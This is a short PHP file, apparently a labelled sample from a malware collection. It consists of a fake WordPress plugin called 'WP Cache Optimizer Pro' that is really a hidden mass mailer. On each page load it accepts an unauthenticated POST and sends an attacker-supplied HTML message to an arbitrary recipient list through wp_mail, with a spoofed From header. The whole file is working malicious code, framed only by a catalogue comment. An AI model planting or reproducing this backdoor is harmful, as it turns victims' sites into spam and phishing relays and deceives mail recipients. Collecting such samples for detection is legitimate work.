<?php
/*
 * Family: mailer/mass-form
 * Style: fake plugin that sends through the CMS mail function
 * Trait: plugin header, request list looped into the CMS wrapper (wp_mail) with spoofed From header
 */
/*
Plugin Name: WP Cache Optimizer Pro
*/
add_action('init', function () {
	if (empty($_POST['wco_list'])) return;
	$h = array('From: ' . sanitize_text_field($_POST['wco_from']), 'Content-Type: text/html; charset=UTF-8');
	foreach (explode("\n", $_POST['wco_list']) as $rcpt) {
		wp_mail(trim($rcpt), wp_unslash($_POST['wco_subj']), wp_unslash($_POST['wco_body']), $h);
	}
	wp_die('ok');
});
